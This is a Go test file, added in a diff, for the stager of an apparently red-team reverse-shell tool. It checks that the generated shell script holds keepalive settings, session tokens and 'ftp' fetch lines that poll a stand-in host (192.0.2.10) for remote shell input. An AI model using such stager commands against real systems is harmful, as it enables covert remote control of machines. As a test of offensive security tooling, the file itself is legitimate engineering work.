@@ -0,0 +1,177 @@
+package main
+
+/*
+ * stager_test.go
+ * Tests for stager.go
+ * By J. Stuart McMurray
+ * Created 20261018
+ * Last Modified 20261018
+ */
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+// testStagerConfig is a StagerConfig for testing.
+var testStagerConfig = StagerConfig{
+	Addr:      "192.0.2.10:5555",
+	CAFile:    DefaultStagerCAFile,
+	KeepAlive: DefaultStagerKeepAlive,
+	BatchWait: 2 * time.Second,
+	Compress:  true,
+}
+
+// Does the stager have what it needs?
+func TestStager_Render(t *testing.T) {
+	secret := []byte("kittens")
+	for _, c := range []struct {
+		name    string
+		conf    func(*StagerConfig)
+		secret  []byte
+		want    []string
+		notWant []string
+	}{{
+		name: "polling",
+		want: []string{
+			"KAINT=5 ",
+			"BATCHWAIT=2 ",
+			"COMPRESS=yes ",
+			"POLLINPUT=yes ",
+			"AUTH=\n",
+			"ftp -M -o- -S cafile=/etc/ssl/crs_cert.pem -V -w 15",
+			`"https://192.0.2.10:5555/keepalive/{{.ID}}$AUTH"`,
+		},
+		notWant: []string{"/i/"},
+	}, {
+		name: "curlrevshell_input",
+		conf: func(sc *StagerConfig) {
+			sc.InputURL = "https://192.0.2.10:4444/i"
+			sc.BatchWait = 0
+			sc.Compress = false
+		},
+		want: []string{
+			"BATCHWAIT=0 ",
+			"COMPRESS= ",
+			"POLLINPUT= ",
+			`"https://192.0.2.10:4444/i/{{.ID}}" </dev/null`,
+		},
+	}, {
+		name:   "secret",
+		secret: secret,
+		want:   []string{"AUTH=/{{.Token}}\n"},
+	}} {
+		t.Run(c.name, func(t *testing.T) {
+			sc := testStagerConfig
+			if nil != c.conf {
+				c.conf(&sc)
+			}
+			var sb strings.Builder
+			id, err := NewStager(sc, c.secret).Render(&sb)
+			if nil != err {
+				t.Fatalf("Error rendering: %s", err)
+			}
+			if !regexp.MustCompile(`^[0-9a-z]+$`).MatchString(id) {
+				t.Errorf("Odd ID: %q", id)
+			}
+			got := sb.String()
+			r := strings.NewReplacer(
+				"{{.ID}}", id,
+				"{{.Token}}", SessionToken(c.secret, id),
+			)
+			for _, w := range c.want {
+				if w = r.Replace(w); !strings.Contains(got, w) {
+					t.Errorf("Script lacks %q", w)
+				}
+			}
+			for _, nw := range c.notWant {
+				if strings.Contains(got, nw) {
+					t.Errorf("Script has %q", nw)
+				}
+			}
+			if strings.Contains(got, "{{") {
+				t.Errorf("Script has unrendered template bits")
+			}
+
+			/* Make sure it's at least a valid script. */
+			for _, sh := range []string{"ksh", "bash"} {
+				p, err := exec.LookPath(sh)
+				if nil != err {
+					continue
+				}
+				cmd := exec.Command(p, "-n")
+				cmd.Stdin = strings.NewReader(got)
+				if o, err := cmd.CombinedOutput(); nil != err {
+					t.Errorf(
+						"Script invalid (%s): %s\n%s",
+						sh,
+						err,
+						o,
+					)
+				}
+				break
+			}
+		})
+	}
+}
+
+// Do we get a new ID every time?
+func TestStager_NewIDs(t *testing.T) {
+	s := NewStager(testStagerConfig, nil)
+	ids := make(map[string]struct{})
+	for range 100 {
+		id, err := s.Render(new(strings.Builder))
+		if nil != err {
+			t.Fatalf("Error rendering: %s", err)
+		}
+		if _, ok := ids[id]; ok {
+			t.Fatalf("Duplicate ID %q", id)
+		}
+		ids[id] = struct{}{}
+	}
+}
+
+// Is stager.tmpl up to date with its m4 source?
+func TestStagerTemplateGenerated(t *testing.T) {
+	m4, err := exec.LookPath("m4")
+	if nil != err {
+		t.Skipf("Can't find m4: %s", err)
+	}
+	want, err := exec.Command(
+		m4,
+		"-PEE",
+		"-I",
+		"../../..",
+		"stager.tmpl.m4",
+	).Output()
+	if nil != err {
+		t.Fatalf("Error running m4: %s", err)
+	}
+	got, err := os.ReadFile("stager.tmpl")
+	if nil != err {
+		t.Fatalf("Error reading stager.tmpl: %s", err)
+	}
+	if string(got) != string(want) {
+		t.Errorf("stager.tmpl is stale, run go generate")
+	}
+}
+
+// Does ftpCommand match crs.tmpl's ftp subtemplate?
+func TestFTPCommand(t *testing.T) {
+	b, err := os.ReadFile("../../crs.tmpl.m4")
+	if nil != err {
+		t.Fatalf("Error reading crs.tmpl.m4: %s", err)
+	}
+	want := fmt.Sprintf(
+		"{{- define \"ftp\" -}}\n%s\n{{- end -}}",
+		fmt.Sprintf(ftpCommand, "-", "m4_cafile"),
+	)
+	if !strings.Contains(string(b), want) {
+		t.Errorf("crs.tmpl.m4's ftp subtemplate isn't %q", want)
+	}
+}